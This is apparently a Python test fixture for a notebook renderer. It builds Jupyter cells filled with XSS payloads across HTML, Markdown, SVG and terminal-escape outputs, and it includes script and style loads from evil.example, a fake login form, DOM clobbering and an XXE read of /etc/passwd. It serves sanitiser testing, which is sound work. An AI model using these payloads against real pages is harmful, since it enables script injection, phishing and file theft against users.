"""What strangers could put into a notebook to act on our pages; each calls ``pwn`` if it can."""
# ruff: noqa: E501, ISC004 -- a payload stays in one piece

HTML = [
    "<script>pwn()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<img src=x onerror=pwn()>",
    "<img src=x\tonerror\n=\n'pwn()'>",
    '<img/src="x"/onerror="pwn()">',
    "<body onload=pwn()>",
    "<svg onload=pwn()></svg>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwn()</script>'></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
    "<svg><a xlink:href='javascript:pwn()'><text y=20>x</text></a></svg>",
    '<a href="javascript:pwn()">x</a>',
    '<a href="JaVaScRiPt:pwn()">x</a>',
    '<a href="java\nscript:pwn()">x</a>',
    '<a href="java&Tab;script&colon;pwn()">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn()">x</a>',
    '<a href=" &#1; javascript:pwn()">x</a>',
    '<a href="vbscript:pwn()">x</a>',
    '<a href="data:text/html,<script>opener.pwn()</script>" target=_blank>x</a>',
    '<a href="//evil.example/" ping="https://evil.example/">x</a>',
    '<img src="https://evil.example/pixel.png">',
    '<img src="data:image/svg+xml,<svg onload=pwn()>">',
    '<img src="data:image/png;base64,AAAA" srcset="https://evil.example/x 2x">',
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    '<iframe src="javascript:parent.pwn()"></iframe>',
    '<object data="data:text/html,<script>parent.pwn()</script>"></object>',
    '<embed src="data:text/html,<script>parent.pwn()</script>">',
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">Log in again</div>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=password><button autofocus>Log in</button></form>',
    '<button formaction="javascript:pwn()">x</button>',
    "<input autofocus onfocus=pwn()>",
    "<details open ontoggle=pwn()>x</details>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()></audio>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwn()&gt;'>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwn()>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
    "<template><script>pwn()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=pwn()></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    "<xmp><p title='</xmp><img src=x onerror=pwn()>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=pwn()>'></textarea>",
    "<title><p title='</title><img src=x onerror=pwn()>'></title>",
    "<!--><img src=x onerror=pwn()>-->",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    '<p id="main" class="skip" name="body">clobber</p>',
    '<a id="location" name="location" href="https://evil.example/">x</a>',
    '<table background="javascript:pwn()"><td colspan=999999999>x</td></table>',
    "<marquee onstart=pwn()>x</marquee>",
    "<div onpointerrawupdate=pwn() contenteditable autofocus onfocus=pwn()>x</div>",
    "</div></section></main><script>pwn()</script><h1>Reprise</h1>",
    "<plaintext><img src=x onerror=pwn()>",
]
MARKDOWN = [
    "[x](javascript:pwn())",
    "[x](JAVASCRIPT:pwn())",
    "[x](java&#10;script:pwn())",
    "[x](<java script:pwn()>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
    "[x](vbscript:pwn())",
    '![x](x"onerror="pwn())',
    "![x](https://evil.example/pixel.png)",
    '![x](javascript:pwn() "t")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigpIi8+)",
    "![x](attachment:x.svg)",
    "<javascript:pwn()>",
    "[x]: javascript:pwn()\n\n[x]",
    "```html\n<script>pwn()</script>\n```",
    '```"><script>pwn()</script>\nx\n```',
    "$<img src=x onerror=pwn()>$",
    "$$\\href{javascript:pwn()}{x}$$",
    "`<script>pwn()</script>`",
    "# <img src=x onerror=pwn()>",
    "| a |\n|---|\n| <img src=x onerror=pwn()> |",
    "> <svg onload=pwn()>",
    '[x](https://a.example/"onmouseover="pwn())',
]
SVG = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"><rect width="9" height="9"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.pwn()</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example/x";</style></svg>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"'
    ' onload="parent.pwn()"/></foreignObject></svg>',
]  # fmt: skip
TEXTS = [
    "\x1b]8;;javascript:pwn()\x07x\x1b]8;;\x07",
    "\x1b[31m<script>pwn()</script>\x1b[0m",
    "\u202e<img src=x onerror=pwn()>",
    "</pre><script>pwn()</script>",
]


def data(kind: str, value: object) -> dict[str, object]:
    """An output that shows something of a media type."""
    return {"output_type": "display_data", "data": {kind: value}, "metadata": {}}


def cells() -> list[dict[str, object]]:
    """Cells that try everything at once."""
    outputs = [
        *[data("text/html", one) for one in HTML], *[data("text/markdown", one) for one in MARKDOWN],
        *[data("image/svg+xml", one) for one in SVG],
        *[{"output_type": "stream", "name": "stdout", "text": one} for one in TEXTS],
        {"output_type": "error", "ename": "<script>pwn()</script>", "evalue": "x",
         "traceback": ["\x1b[31m<script>pwn()</script>"]},
        data("application/javascript", "pwn()"),
        data("application/vnd.jupyter.widget-view+json", {"model_id": "<script>pwn()</script>"}),
        data("image/png", '"><script>pwn()</script>'),
        data("text/latex", "$\\href{javascript:pwn()}{x}$<script>pwn()</script>"),
        data("application/json", {"</script><script>pwn()</script>": 1}),
    ]  # fmt: skip
    parts = [outputs[start : start + 50] for start in range(0, len(outputs), 50)]
    return [
        *[{"cell_type": "markdown", "source": one, "metadata": {},
           "attachments": {"x.svg": {"image/svg+xml": SVG[0]}}} for one in [*MARKDOWN, *HTML]],
        *[{"cell_type": "code", "source": "print('</code><script>pwn()</script>')", "metadata": {},
           "execution_count": 1, "outputs": part} for part in parts],
        {"cell_type": "raw", "source": "<script>pwn()</script>", "metadata": {}},
    ]  # fmt: skip
